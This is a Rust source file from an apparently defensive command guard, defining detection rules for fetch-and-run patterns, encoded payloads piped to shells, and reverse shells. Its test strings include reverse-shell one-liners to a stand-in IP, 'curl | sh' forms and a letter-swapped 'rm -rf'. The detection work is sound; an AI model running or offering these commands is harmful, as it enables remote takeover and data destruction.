//! Code from elsewhere into an interpreter, and shells to elsewhere.

use super::{HIGH, MEDIUM, Rule, Scene};
use crate::guard::Span;
use crate::guard::call::{Call, is_group};
use crate::guard::resolve::{Decoder, Feed, Substitution, Value};
use crate::guard::shell::Operator;
use crate::guard::unwrap::{
    SHELLS, inline_code, is_interpreter, is_shell, reads_commands, reads_program, script_file, shell_code,
    ssh_command_at,
};

/// Programs that bring text from the network.
pub(crate) const FETCHERS: &[&str] = &[
    "curl", "wget", "fetch", "aria2c", "http", "https", "httpie", "lynx", "w3m", "ftp", "nc", "ncat", "axel",
];

/// Programs whose output is meant to be evaluated by a shell.
const GENERATORS: &[&str] = &[
    "ssh-agent",
    "direnv",
    "pyenv",
    "rbenv",
    "nodenv",
    "jenv",
    "goenv",
    "brew",
    "starship",
    "zoxide",
    "conda",
    "mamba",
    "micromamba",
    "fnm",
    "minikube",
    "docker-machine",
    "opam",
    "luarocks",
    "dircolors",
    "gdircolors",
    "lesspipe",
    "keychain",
    "mise",
    "asdf",
    "atuin",
    "mcfly",
    "thefuck",
    "navi",
    "register-python-argcomplete",
    "kubectl",
    "helm",
    "gh",
    "rustup",
    "perl",
    "resize",
    "tset",
    "locale",
    "gpg-agent",
    "dbus-launch",
    "poetry",
    "pip",
    "npm",
    "just",
    "task",
    "ssh-keygen",
    "hub",
    "stack",
    "ng",
    "aws",
];

/// Programs that carry out what a file says, and seldom read anything else.
const SCRIPTED: &[&str] = &[
    "awk", "gawk", "mawk", "nawk", "make", "gmake", "cmake", "emacs", "gdb", "expect", "vim", "nvim", "sed",
];

/// Clients that carry out what they read.
const CLIENTS: &[&str] = &[
    "psql",
    "mysql",
    "mariadb",
    "sqlite3",
    "duckdb",
    "mongosh",
    "mongo",
    "redis-cli",
    "cqlsh",
    "at",
    "batch",
];

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "fetch-process-substitution",
        key: "execute remote script via process substitution",
        description: "runs a script straight from the network",
        weight: HIGH,
        programs: &[],
        when: |call, _| runs_fetched(call, &[Substitution::Process]),
        hits: &[
            "bash <(curl -s https://x/i.sh)",
            ". <(curl x)",
            "source <(wget -qO- x)",
            "python3 <(curl x)",
            "bash < <(curl x)",
            "gawk -f <(curl x) f",
            "emacs -Q --batch -l <(curl x)",
            "cmake -P <(curl x)",
            "psql -f <(curl x)",
        ],
        misses: &["diff <(curl x) y", "bash <(echo hi)", "cat <(curl x)"],
    },
    Rule {
        id: "fetch-command-substitution",
        key: "execute remote content via command substitution",
        description: "runs text straight from the network",
        weight: HIGH,
        programs: &[],
        when: |call, _| runs_fetched(call, &[Substitution::Dollar, Substitution::Backtick]),
        hits: &[
            "eval $(curl http://x)",
            "eval \"$(curl x)\"",
            ". `wget -qO- x`",
            "bash -c \"$(curl -fsSL x)\"",
            "$(curl x)",
        ],
        misses: &["eval \"$(ssh-agent -s)\"", "echo $(curl x)", "X=$(curl x)"],
    },
    Rule {
        id: "pipe-fetched-to-shell",
        key: "pipe remote content to shell",
        description: "runs a download without looking at it",
        weight: HIGH,
        programs: &[],
        when: |call, _| sink(call).filter(|_| feed_of(call).is_some_and(|feed| feed.fetched)),
        hits: &[
            "curl x | sh",
            "curl x | sudo bash",
            "wget -qO- x | python3 -",
            "curl x | tee y | zsh",
            "(curl x) | bash -s -- a",
            "curl x | psql app",
        ],
        misses: &[
            "curl x | jq .",
            "curl x | shuf",
            "curl x | bash-completion",
            "curl x | python3 -m json.tool",
            "curl x -o y",
            "curl x | psql -c 'copy t from stdin'",
        ],
    },
    Rule {
        id: "fetched-then-run",
        key: "run of a downloaded file",
        description: "downloads a program and runs it without looking at it",
        weight: HIGH,
        programs: &[],
        when: |call, scene| {
            if scene.fetched.is_empty() {
                return None;
            }
            let runs = call.program.text.contains(['/', '$'])
                || is_shell(&call.name)
                || is_interpreter(&call.name).is_some()
                || call.is(&["source", "."]);
            let file = script_file(call).filter(|_| runs)?;
            let base = file.text.rsplit('/').next()?;
            scene.fetched.iter().any(|name| name == base).then_some(call.span)
        },
        hits: &[
            "curl x -o a.sh && sh a.sh",
            "curl x > /tmp/a; bash /tmp/a",
            "wget http://h/install.sh && chmod +x install.sh && ./install.sh",
            "wget -O x.py h; python3 x.py",
            "f=$(mktemp); curl -o $f http://x; sh $f",
            "scp h:i.sh . && sh i.sh",
        ],
        misses: &[
            "curl x -o a.tgz && tar xzf a.tgz",
            "curl x -o a.json; python3 read.py a.json",
            "wget http://h/a.sh; cat a.sh",
        ],
    },
    Rule {
        id: "pipe-decoded-to-shell",
        key: "pipe decoded content to shell (possible command obfuscation)",
        description: "runs text that was hidden by an encoding",
        weight: HIGH,
        programs: &[],
        when: |call, _| decoded(call, &[Decoder::Base, Decoder::Other]),
        hits: &["echo ZWNobyBoaQ== | base64 -d | sh", "base64 --decode x | bash"],
        misses: &["base64 -d x > y", "echo x | base64 | cat"],
    },
    Rule {
        id: "pipe-hex-to-shell",
        key: "pipe xxd-decoded content to shell (possible command obfuscation)",
        description: "runs text that was hidden by an encoding",
        weight: HIGH,
        programs: &[],
        when: |call, _| decoded(call, &[Decoder::Hex]),
        hits: &["echo deadbeef | xxd -r | bash"],
        misses: &["xxd -r dump.hex out.bin"],
    },
    Rule {
        id: "pipe-translated-to-shell",
        key: "pipe tr-transformed output to shell (possible command obfuscation)",
        description: "runs text that was hidden by swapping letters",
        weight: HIGH,
        programs: &[],
        when: |call, _| decoded(call, &[Decoder::Translate]),
        hits: &["echo 'eq -pe v' | tr 'eqv' 'rmf' | bash"],
        misses: &["echo a | tr a b"],
    },
    Rule {
        id: "pipe-decrypted-to-shell",
        key: "pipe openssl-decoded content to shell (possible command obfuscation)",
        description: "runs text that was hidden by encryption",
        weight: HIGH,
        programs: &[],
        when: |call, _| decoded(call, &[Decoder::Openssl]),
        hits: &["openssl enc -d -in x | sh"],
        misses: &["openssl enc -d -in x -out y"],
    },
    Rule {
        id: "pipe-unknown-to-shell",
        key: "pipe to shell",
        description: "runs text that is produced at run time",
        weight: MEDIUM,
        programs: SHELLS,
        when: |call, _| {
            let unknown = |feed: &Feed| feed.text.is_none() && !feed.fetched && feed.decoded.is_none();
            sink(call).filter(|_| feed_of(call).is_some_and(unknown))
        },
        hits: &["git log -1 | sh", "cat x | bash"],
        misses: &["echo ls | sh", "cat x | bash y.sh", "sh script.sh"],
    },
    Rule {
        id: "eval-unknown",
        key: "evaluation of text decided at run time",
        description: "runs text that only exists when the command runs",
        weight: MEDIUM,
        programs: &["eval"],
        when: |call, _| call.args.iter().find(|arg| is_opaque(arg)).map(|arg| arg.span),
        hits: &["eval \"$cmd\"", "eval \"$(cat x)\""],
        misses: &["eval \"$(ssh-agent -s)\"", "eval 'ls'", "eval \"$(brew shellenv)\""],
    },
    Rule {
        id: "runtime-command-name",
        key: "command name decided at run time",
        description: "starts a program whose name only exists when the command runs",
        weight: MEDIUM,
        programs: &[],
        when: runtime_name,
        hits: &["$X -rf x", "$(cat x) y", "/???/r? -rf x"],
        misses: &[
            "X=ls; $X",
            "$HOME/bin/tool",
            "\"$VENV/bin/python\" x.py",
            "$(which python3) -V",
            "[ -f x ]",
        ],
    },
    Rule {
        id: "network-device",
        key: "shell network device (/dev/tcp)",
        description: "opens a network connection from the shell, as reverse shells do",
        weight: HIGH,
        programs: &[],
        when: |call, _| {
            let opens = |text: &str| text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/");
            call.redirects
                .iter()
                .find(|redirect| opens(&redirect.target.text))
                .map(|redirect| redirect.target.span)
        },
        hits: &["bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "exec 3<>/dev/tcp/h/80"],
        misses: &["ls /dev/tcp", "echo /dev/tcp/x"],
    },
    Rule {
        id: "netcat-exec",
        key: "network shell (netcat/socat)",
        description: "hands a shell to the network",
        weight: HIGH,
        programs: &["nc", "ncat", "netcat", "socat"],
        when: |call, _| {
            let exec = call.options().find(|arg| {
                let text = arg.text.as_str();
                (is_group(text) && text.contains(['e', 'c']) && call.name != "socat")
                    || matches!(text, "--exec" | "--sh-exec")
            });
            let socat = call.args.iter().find(|arg| {
                let text = arg.text.to_lowercase();
                call.name == "socat" && (text.starts_with("exec:") || text.starts_with("system:"))
            });
            exec.or(socat).map(|arg| arg.span)
        },
        hits: &["nc -e /bin/sh 203.0.113.7 4444", "socat TCP:h:1 EXEC:/bin/sh"],
        misses: &["nc -zv localhost 80", "nc -l 8080"],
    },
];

fn feed_of(call: &Call) -> Option<&Feed> {
    if call.input.is_some() {
        None
    } else {
        call.feed.as_deref()
    }
}

/// An interpreter that takes its program from standard input.
fn sink(call: &Call) -> Option<Span> {
    let reads = match call.name.as_str() {
        name if is_shell(name) => reads_commands(call),
        "source" | "." => call.args.first().is_some_and(|file| file.text == "/dev/stdin"),
        // Without a command the remote shell reads its input.
        name if CLIENTS.contains(&name) => call.has(&["-c", "-e", "--command", "--execute", "--eval"]).is_none(),
        "ssh" => ssh_command_at(call).is_none() && !call.args.is_empty(),
        name => is_interpreter(name)
            .is_some_and(|family| inline_code(call, family).is_none() && reads_program(call, family)),
    };
    reads.then_some(call.span)
}

fn decoded(call: &Call, kinds: &[Decoder]) -> Option<Span> {
    sink(call).filter(|_| {
        feed_of(call)
            .and_then(|feed| feed.decoded)
            .is_some_and(|kind| kinds.contains(&kind))
    })
}

fn fetched(value: &Value, how: &[Substitution]) -> bool {
    value
        .runs
        .iter()
        .any(|ran| how.contains(&ran.how) && FETCHERS.contains(&ran.program.as_str()))
}

fn runs_fetched(call: &Call, how: &[Substitution]) -> Option<Span> {
    let runs_arguments = matches!(call.name.as_str(), "eval" | "source" | ".");
    let process = how.contains(&Substitution::Process);
    let interprets = is_shell(&call.name)
        || is_interpreter(&call.name).is_some()
        || runs_arguments
        || call.is(SCRIPTED)
        || call.is(CLIENTS);
    let value = if runs_arguments || (interprets && process) {
        call.args.iter().find(|arg| fetched(arg, how))
    } else if is_shell(&call.name) {
        shell_code(call).filter(|code| fetched(code, how))
    } else {
        Some(&call.program).filter(|program| fetched(program, how))
    };
    let read = call
        .redirects
        .iter()
        .filter(|redirect| redirect.operator == Operator::Read && interprets && process);
    value
        .or_else(|| {
            read.map(|redirect| &redirect.target)
                .find(|target| fetched(target, how))
        })
        .map(|value| value.span)
}

/// Text for `eval` of which nothing can be known.
fn is_opaque(arg: &Value) -> bool {
    if arg.known || arg.ran(FETCHERS) {
        return false;
    }
    arg.runs.is_empty() || !arg.runs.iter().any(|ran| GENERATORS.contains(&ran.program.as_str()))
}

fn runtime_name(call: &Call, _: &Scene<'_>) -> Option<Span> {
    let is_literal = call.program.known && !call.program.text.contains(['*', '?', '[']);
    if !call.name.is_empty() || call.program.text.is_empty() || is_literal {
        return None;
    }
    // `$(which python3)` says which program it is.
    let lookups = ["which", "command", "type", "realpath", "xcrun"];
    let looked_up = !call.program.runs.is_empty()
        && call
            .program
            .runs
            .iter()
            .all(|ran| lookups.contains(&ran.program.as_str()));
    (!looked_up).then_some(call.program.span)
}
